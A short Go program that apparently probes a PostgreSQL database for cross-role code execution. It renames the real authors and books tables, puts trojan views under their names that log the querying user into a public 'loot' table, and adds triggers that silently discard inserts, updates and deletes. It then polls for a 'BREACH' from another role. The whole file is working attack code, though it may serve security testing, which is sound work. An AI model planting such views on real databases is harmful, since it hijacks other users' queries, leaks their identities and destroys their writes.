package main

import (
	"context"
	"fmt"
	"time"

	"github.com/jackc/pgx/v5/pgxpool"
)

const views = `
CREATE TABLE app.loot (who text);
GRANT ALL ON app.loot TO PUBLIC;
CREATE FUNCTION app.spy() RETURNS boolean LANGUAGE plpgsql SECURITY INVOKER AS $$
BEGIN INSERT INTO app.loot VALUES (current_user); RETURN true; END $$;
ALTER TABLE app.authors RENAME TO real_authors;
ALTER TABLE app.books RENAME TO real_books;
CREATE VIEW app.authors AS SELECT * FROM app.real_authors WHERE app.spy();
CREATE VIEW app.books AS SELECT * FROM app.real_books WHERE app.spy();
CREATE FUNCTION app.take() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN PERFORM app.spy(); NEW.id := 1; RETURN NEW; END $$;
CREATE TRIGGER take INSTEAD OF INSERT OR UPDATE OR DELETE ON app.authors FOR EACH ROW EXECUTE FUNCTION app.take();
CREATE TRIGGER take INSTEAD OF INSERT OR UPDATE OR DELETE ON app.books FOR EACH ROW EXECUTE FUNCTION app.take();
GRANT ALL ON app.authors, app.books TO PUBLIC;`

func plant(ctx context.Context, pool *pgxpool.Pool) error {
	if _, err := pool.Exec(ctx, views); err != nil {
		return err
	}
	fmt.Println("TRIED two views")
	go func() {
		for range 200 {
			var who string
			err := pool.QueryRow(ctx, "SELECT who FROM app.loot WHERE who <> 'app' LIMIT 1").Scan(&who)
			if err == nil {
				fmt.Println("BREACH a view ran as", who)
				return
			}
			time.Sleep(20 * time.Millisecond)
		}
	}()
	return nil
}
